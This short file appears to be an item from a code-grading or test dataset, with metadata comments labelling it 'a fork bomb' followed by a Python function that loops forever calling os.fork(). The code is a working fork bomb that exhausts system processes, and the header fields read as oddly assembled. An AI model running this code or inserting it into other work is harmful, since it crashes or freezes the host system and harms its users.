# row: 7
# says: a fork bomb
# marks: steps 0, rest full
# status: graded | graded with warnings
# holds: warm cold

# %% steps
import os


def steps(f, n):
    while True:
        os.fork()
